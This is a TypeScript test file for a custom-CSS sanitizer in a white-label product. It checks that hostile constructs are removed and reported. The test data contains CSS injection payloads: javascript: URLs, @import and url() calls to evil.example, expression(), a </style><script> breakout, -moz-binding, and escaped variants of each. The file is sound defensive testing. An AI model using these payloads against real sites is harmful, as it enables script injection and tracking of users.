// Hostile custom CSS (issue 17 item 6): each construct that could load from elsewhere, run code
// or end the <style> element is removed with a line in the report, escaped spellings included;
// safe CSS and the client's own uploaded images stay; huge or broken input is refused whole
// without harm; and whatever mix of fragments comes in, what goes out is safe.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  WHITE_LABEL_DEFAULTS,
  WHITE_LABEL_MESSAGES,
  clientInputSchema,
} from '../../../contracts/white-label.js';
import { decodeCssEscapes, sanitizeCustomCss } from './custom-css.js';

const LOGO = '/logo/AbCdEf123456_-xy';

/** What must never survive, checked on the output with CSS escapes decoded. */
function assertSafe(css: string): void {
  const text = decodeCssEscapes(css).toLowerCase();
  expect(text).not.toMatch(/<\/style|<!--|-->|<script/);
  expect(text).not.toMatch(/@import|@font-face|@namespace/);
  expect(text).not.toMatch(/expression\s*\(|javascript:|(?:^|[^-\w])behavior\s*:|-moz-binding/);
  for (const match of text.matchAll(/(?:url|src|image|image-set|cross-fade|element)\s*\(/g)) {
    const rest = text.slice((match.index ?? 0) + match[0].length).trimStart();
    expect(rest.replace(/^["']/, ''), css).toMatch(/^\/logo\/[a-z0-9_-]{8,64}["']?\s*\)/);
  }
}

const HOSTILE: [string, string][] = [
  ['url(javascript:)', '.a { background: url(javascript:alert(1)); }'],
  ['quoted url(javascript:)', `.a { background: url("javascript:alert(1)"); }`],
  ['javascript: outside url()', '.a { cursor: javascript:alert(1); }'],
  ['@import url()', '@import url(https://evil.example/x.css);'],
  ['@import string', '@import "https://evil.example/x.css" screen;'],
  ['@import escaped', '@\\69 mport "https://evil.example/x.css";'],
  ['@import escaped mid-name', '@im\\70 ort "https://evil.example/x.css";'],
  ['@import escaped without space', '@im\\70ort "https://evil.example/x.css";'],
  ['@font-face escaped', '@font-f\\61 ce { font-family: X; src: local(Arial) }'],
  ['an unknown at-rule', '@document url-prefix(https://evil.example) { .a { color: red } }'],
  ['expression()', '.a { width: expression(alert(1)); }'],
  ['escaped expression()', '.a { width: \\65 xpression(alert(1)); }'],
  ['</style> in a string', '.a::after { content: "</style><script>alert(1)</script>"; }'],
  ['</style> in a selector', '.a[title="</style><script>alert(1)</script>"] { color: red; }'],
  ['</style> escaped in a string', '.a::after { content: "\\3c/style>"; }'],
  ['<!-- in a value', '.a::after { content: "<!--"; }'],
  ['behavior:', '.a { behavior: url(evil.htc); }'],
  ['escaped behaviour', '.a { \\62 ehavior: url(evil.htc); }'],
  ['-moz-binding:', '.a { -moz-binding: url("https://evil.example/x.xml#xss"); }'],
  ['escaped url()', '.a { background: \\75 rl(https://evil.example/t.gif); }'],
  ['protocol-relative url()', '.a { background: url(//evil.example/t.gif); }'],
  ['data: url()', '.a { background: url(data:image/svg+xml,<svg onload=alert(1)>); }'],
  ['image-set()', '.a { background: image-set("https://evil.example/t.png" 1x); }'],
  ['@font-face', '@font-face { font-family: X; src: url(https://evil.example/f.woff2); }'],
  [
    'url() inside @supports',
    '@supports (display:grid) { .a { background: url(https://e.example/x) } }',
  ],
  ['url() in @media params', '@media url(https://evil.example/) { .a { color: red } }'],
  ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg);'],
  ['path traversal from /logo', `.a { background: url(${LOGO}/../../api/user); }`],
];

describe('sanitizeCustomCss against hostile input', () => {
  it.each(HOSTILE)('removes %s and reports it', (_name, input) => {
    const { css, dropped } = sanitizeCustomCss(`.keep { color: #123456; }\n${input}`);
    expect(dropped.length).toBeGreaterThan(0);
    assertSafe(css);
    // The construct goes, the rest stays, unless the parser refused the stylesheet whole.
    if (!dropped[0]!.startsWith('the whole stylesheet')) expect(css).toContain('.keep');
  });

  it('keeps ordinary CSS and the own uploaded image, reporting nothing', () => {
    const input = `.hero { background: url(${LOGO}) no-repeat; color: #fff }\n@media (max-width: 640px) { .hero { padding: 0 } }`;
    const { css, dropped } = sanitizeCustomCss(input);
    expect(dropped).toEqual([]);
    expect(css).toContain(`url(${LOGO})`);
    expect(css).toContain('@media (max-width: 640px)');
  });

  it('refuses unreadable or absurdly nested input whole, with the reason', () => {
    for (const input of ['.a { color: red', '{'.repeat(50_000), '"'.repeat(30_001)]) {
      const { css, dropped } = sanitizeCustomCss(input);
      assertSafe(css);
      if (css === '') expect(dropped.join(' ')).toMatch(/whole stylesheet|could not be read/);
    }
  });

  it('refuses more than 20 KB at the API contract, with the message', () => {
    const big = '.a{color:red}'.repeat(Math.ceil(WHITE_LABEL_DEFAULTS.customCssMaxBytes / 13) + 1);
    const parsed = clientInputSchema.safeParse({ name: 'A', customCSS: big });
    expect(parsed.success).toBe(false);
    expect(parsed.error?.issues[0]!.message).toBe(WHITE_LABEL_MESSAGES.cssTooLarge);
    // Multi-byte text counts in bytes: 7,000 euro signs are 21,000 bytes.
    expect(clientInputSchema.safeParse({ name: 'A', customCSS: '€'.repeat(7000) }).success).toBe(
      false,
    );
  });

  it('whatever mix of safe and hostile fragments comes in, the output is safe', () => {
    const fragments = [
      '.a{color:red}',
      `.b{background:url(${LOGO})}`,
      ...HOSTILE.map(([, css]) => css),
      '/* </style> */',
      '.c{content:"\\3c/style>"}',
      '@media print{',
      '}',
      ';',
      '"',
      "'",
      '\\',
      '<!--',
      '-->',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 12 }), (parts) => {
        assertSafe(sanitizeCustomCss(parts.join('\n')).css);
      }),
      { numRuns: 300 },
    );
  });
});
